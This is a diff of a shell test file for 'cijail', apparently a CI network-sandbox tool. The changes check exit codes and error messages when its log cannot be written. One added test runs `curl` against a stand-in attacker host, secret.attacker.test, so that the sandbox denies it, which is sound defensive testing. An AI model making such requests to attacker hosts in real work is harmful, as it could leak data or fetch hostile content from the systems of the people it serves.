@@ -41,11 +41,17 @@ for limit in '-v 20000' '-v 60000' '-v 200000' '-f 0' '-s 64' '-l 0'; do
 done
 t_same_state "$before"
 
-t_case 'a log that cannot be written to'
+t_case 'a log that cannot be written to: said, and 125 when the command has ended'
 run cijail -v --log /dev/full "${policy[@]}" -- sh -c "$fetch https://registry.example/pkg/lodash; exit 7"
-t_status 7
+t_status 125
 t_match "$out" '^200$'
-t_match "$err" 'log'
+t_match "$err" '^cijail: cannot write the log /dev/full: No space left on device; it is not complete$'
+t_count 1 "$err" .
+for level in '' -v -q; do # with -q nothing is to be written
+    # shellcheck disable=SC2086
+    run cijail $level --fail-on-deny --log /dev/full -- sh -c 'curl -s https://secret.attacker.test/; true'
+    t_eq "$level $status" "$level $([[ $level == -q ]] && echo 98 || echo 125)"
+done
 t_under 10000
 
 t_case 'a disk that is full: the log and what was learned'
@@ -64,7 +70,7 @@ t_match "$out" '^200$'
 t_match "$out" '^status 125$' # what was learned is not there
 t_match "$out" '^https://old.example/$'
 t_match "$out" '^fill learned log $'
-t_match "$err" 'cannot write the log: No space left on device'
+t_match "$err" 'cannot write the log full/log: No space left on device'
 t_match "$err" '--learn: cannot write full/learned: No space left on device'
 t_count 2 "$err" .
 
